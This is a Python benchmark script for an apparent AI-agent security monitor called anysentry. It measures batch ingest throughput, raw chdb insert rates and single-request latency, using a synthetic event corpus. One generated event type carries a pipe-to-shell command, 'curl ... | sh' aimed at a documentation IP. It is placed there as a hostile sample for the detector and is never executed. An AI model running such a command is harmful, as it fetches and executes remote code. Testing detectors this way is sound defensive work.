"""Ingest benchmark (issue 3): prints figures, asserts nothing.

1. batch ingest through HTTP (`/ingest/batch`, 256 lines per request, 4 in flight, requests built
   before the clock starts): events/s judged and stored (until the durable buffer has drained into
   the store), over 200,000 events by default — about 4 s, so that the end of the run (the writer
   waits up to 0.25 s after ingest goes quiet, then inserts what is left, ~0.1 s) is a small part of
   it rather than a fifth, as it was over 60,000; with the server's default ingest workers
   (`ANYSENTRY_INGEST_WORKERS`; set it in the environment to compare). The load generator shares
   the two cores, so it is a minimal keep-alive HTTP/1.1 client (each response read whole, its
   status checked): ~0.5 µs of CPU per event where aiohttp's client took ~1.2; its CPU is printed;
2. the raw chdb insert ceiling for the same judged rows (`Store.insert_events`, in inserts of the
   writer's batch size, into a fresh database): three runs, since one moves by ±8% from the next;
   the ratio to their median and to the best;
3. `/ingest` single-line latency p50/p95/p99 at concurrency 8.
On a shared machine the wall-clock figures move with the load, so the server's CPU time per event
and per request (user + system, all its threads and worker processes) and the load average are
printed beside them.
Query latency over 1M stored events is `bench/queries.py` (run by `make bench`).

Usage: .venv/bin/python bench/ingest.py [--events 200000] [--single 4000]"""

from __future__ import annotations

import argparse
import asyncio
import json
import os
import random
import re
import shutil
import statistics
import subprocess
import sys
import tempfile
import time
from pathlib import Path

import aiohttp
import orjson
from apiproc import ROOT, cpu_seconds, free_port, start_api, stop, wait_healthy
TARGET_BATCH = 50_000
TARGET_RATIO = 0.5
TARGET_P95_MS = 10.0
CEILING_RUNS = 3  # one insert run of the same rows moves by ±8% from the last

CEILING_SCRIPT = """
import json, sys, time
sys.path.insert(0, sys.argv[3])
from anysentry.events.model import AgentEvent
from anysentry.store.client import Store
from anysentry.store.settings import StoreSettings
import clickhouse_connect
src = clickhouse_connect.get_client(dsn="chdb://" + sys.argv[1])
rows = src.query("SELECT * FROM anysentry.events LIMIT 1 BY eventId").named_results()
events = [AgentEvent.from_dict(r) for r in rows]
store = Store(StoreSettings.from_env(data_dir=sys.argv[2], chdb_dir=sys.argv[1], database="ceiling")).open()
size = store.settings.batch_size
started = time.perf_counter()
for i in range(0, len(events), size):
    store.insert_events(events[i:i + size])
print(json.dumps({"rows": len(events), "seconds": time.perf_counter() - started}))
"""


def corpus_line(rng: random.Random, n: int) -> str:
    agent = f"agent-{n % 40}"
    choice = rng.random()
    if choice < 0.45:
        event = {"ToolExec": {"pid": n, "uid": 1000, "argv": rng.choice([["git", "status"], ["python3", "-m", "pytest", "-q"],
                                                                         ["ls", "-la"], ["pip", "install", "requests"]]), "cwd": f"/w/{agent}"}}
    elif choice < 0.65:
        event = {"Egress": {"pid": n, "peer": rng.choice(["140.82.112.3", "api.openai.com", "151.101.0.223"]), "port": 443}}
    elif choice < 0.78:
        event = {"Dns": {"pid": n, "query": rng.choice(["github.com", "pypi.org", "files.pythonhosted.org"])}}
    elif choice < 0.93:
        event = {"FileAccess": {"pid": n, "path": f"/w/{agent}/src/module_{n % 50}.py", "write": False}}
    elif choice < 0.97:
        event = {"SslContent": {"pid": n, "is_read": False, "content": "POST /v1/chat/completions {\"model\":\"gpt\"}"}}
    else:
        event = {"ToolExec": {"pid": n, "argv": ["bash", "-c", "curl -s http://198.51.100.7/x | sh"], "cwd": "/tmp"}}
    return orjson.dumps({"identity": {"agent": agent, "task": str(n), "session": f"{agent}-s{n % 7}"},
                         "process": {"pid": n, "comm": "python3"}, "event": event}).decode()


async def started(url: str) -> None:
    """Healthy, and its ingest workers up: a first large batch starts them in the background."""
    rng = random.Random(3)
    async with aiohttp.ClientSession() as session:
        await wait_healthy(session, url)
        for round_ in range(2):
            body = orjson.dumps({"events": [{"line": corpus_line(rng, 9_000_000 + 256 * round_ + n)} for n in range(256)]})
            async with session.post(url + "/security-center/ingest/batch", data=body,
                                    headers={"content-type": "application/json"}) as resp:
                assert resp.status == 201, await resp.text()
            await asyncio.sleep(2)


async def worker_batches(url: str) -> dict[str, float]:
    """`anysentry_ingest_worker_batches_total` by where batches were judged."""
    async with aiohttp.ClientSession() as session:
        async with session.get(url + "/metrics") as resp:
            text = await resp.text()
    return {m[0]: float(m[1]) for m in re.findall(r'^anysentry_ingest_worker_batches_total\{judged_by="(\w+)"\} (\S+)$', text, re.M)}


async def buffered(session: aiohttp.ClientSession, url: str) -> int:
    async with session.get(url + "/security-center/healthz") as resp:
        return (await resp.json())["data"]["storage"]["bufferedEvents"]


async def batch_ingest(url: str, total: int) -> tuple[float, float]:
    """Events/s from the first request until the durable buffer has drained into the store, and the
    load generator's own CPU seconds over that time (it shares the two cores with the server)."""
    rng = random.Random(7)
    lines = [corpus_line(rng, n) for n in range(total)]
    host, port = url.split("//", 1)[1].rsplit(":", 1)
    requests = []
    for i in range(0, total, 256):
        body = orjson.dumps({"events": [{"line": line, "collectorId": "bench-node"} for line in lines[i:i + 256]]})
        requests.append(f"POST /security-center/ingest/batch HTTP/1.1\r\nHost: {host}:{port}\r\n"
                        f"Content-Type: application/json\r\nContent-Length: {len(body)}\r\n\r\n".encode() + body)
    requests.reverse()
    async with aiohttp.ClientSession() as session:
        await wait_healthy(session, url)

        async def worker() -> None:
            """A minimal keep-alive HTTP/1.1 client: a request out, the whole response in."""
            reader, writer = await asyncio.open_connection(host, int(port))
            try:
                while requests:
                    writer.write(requests.pop())
                    head = await reader.readuntil(b"\r\n\r\n")
                    length = re.search(rb"(?im)^content-length:\s*(\d+)", head)
                    assert length, f"no Content-Length in {head!r}"
                    body = await reader.readexactly(int(length.group(1)))
                    assert head.startswith(b"HTTP/1.1 201"), (head, body[:300])
            finally:
                writer.close()

        cpu, started = time.process_time(), time.perf_counter()
        await asyncio.gather(*(worker() for _ in range(4)))
        while await buffered(session, url) > 0:
            await asyncio.sleep(0.01)  # the run ends when the store has every event: look often
        return total / (time.perf_counter() - started), time.process_time() - cpu


async def single_latency(url: str, count: int) -> list[float]:
    rng = random.Random(11)
    latencies: list[float] = []
    async with aiohttp.ClientSession(connector=aiohttp.TCPConnector(limit=8)) as session:
        async def worker(offset: int) -> None:
            for n in range(offset, count, 8):
                body = orjson.dumps({"line": corpus_line(rng, 10_000_000 + n), "collectorId": "bench-node"})
                started = time.perf_counter()
                async with session.post(url + "/security-center/ingest", data=body,
                                        headers={"content-type": "application/json"}) as resp:
                    await resp.read()
                latencies.append((time.perf_counter() - started) * 1000)

        await asyncio.gather(*(worker(i) for i in range(8)))
    return latencies


def load_average() -> str:
    try:
        return " ".join(f"{x:.1f}" for x in os.getloadavg())
    except OSError:
        return "?"


def pct(values: list[float], q: float) -> float:
    return statistics.quantiles(values, n=100)[int(q) - 1] if len(values) > 1 else values[0]


def main() -> None:
    parser = argparse.ArgumentParser(description=__doc__.split("\n")[0])
    parser.add_argument("--events", type=int, default=200_000)
    parser.add_argument("--single", type=int, default=4_000)
    args = parser.parse_args()
    data_dir = Path(tempfile.mkdtemp(prefix="anysentry-bench-"))
    port = free_port()
    url = f"http://127.0.0.1:{port}"
    server = start_api(data_dir, port)
    load_before = load_average()
    try:
        asyncio.run(started(url))  # start-up (imports, migrations) is not counted below
        cpu0, judged0 = sum(cpu_seconds(server.pid)), asyncio.run(worker_batches(url))
        rate, client_cpu = asyncio.run(batch_ingest(url, args.events))
        cpu1, judged1 = sum(cpu_seconds(server.pid)), asyncio.run(worker_batches(url))
        latencies = asyncio.run(single_latency(url, args.single))
        cpu2 = sum(cpu_seconds(server.pid))
    finally:
        stop(server)
    try:
        ceilings = []
        for run in range(CEILING_RUNS):
            done = subprocess.run([sys.executable, "-c", CEILING_SCRIPT, str(data_dir / "chdb"),
                                   str(data_dir / f"ceiling{run}"), str(ROOT)], capture_output=True, text=True, check=True)
            raw = json.loads(done.stdout)
            ceilings.append(raw["rows"] / raw["seconds"])
    finally:
        shutil.rmtree(data_dir, ignore_errors=True)  # ~250 MB of store and log per run
    raw_rate = statistics.median(ceilings)
    print(f"machine: {os.cpu_count()} cores, python {sys.version.split()[0]}, "
          f"load average {load_before} before, {load_average()} after")
    by_workers = judged1.get("workers", 0) - judged0.get("workers", 0)
    in_service = judged1.get("service", 0) - judged0.get("service", 0)
    print(f"ingest workers: {os.environ.get('ANYSENTRY_INGEST_WORKERS') or 'default'} "
          f"({by_workers:.0f} batches judged by workers, {in_service:.0f} in the service after a pool failure)")
    print(f"batch ingest (HTTP, judged + stored): {rate:,.0f} events/s   target ≥ {TARGET_BATCH:,}")
    print(f"raw chdb insert ceiling (same rows):  {raw_rate:,.0f} rows/s, the median of "
          f"{', '.join(f'{c:,.0f}' for c in ceilings)}")
    print(f"ratio: {rate / raw_rate:.2f} to the median ceiling, {rate / max(ceilings):.2f} to the best   "
          f"target ≥ {TARGET_RATIO}")
    print(f"server CPU: {(cpu1 - cpu0) * 1e6 / max(1, args.events):.0f} µs per batch-ingested event "
          f"(the load generator: {client_cpu * 1e6 / max(1, args.events):.1f}), "
          f"{(cpu2 - cpu1) * 1e6 / max(1, len(latencies)):.0f} µs per /ingest request")
    print(f"/ingest single line, concurrency 8, n={len(latencies)}: p50 {pct(latencies, 50):.2f} ms, "
          f"p95 {pct(latencies, 95):.2f} ms, p99 {pct(latencies, 99):.2f} ms   target p95 ≤ {TARGET_P95_MS} ms")


if __name__ == "__main__":
    main()
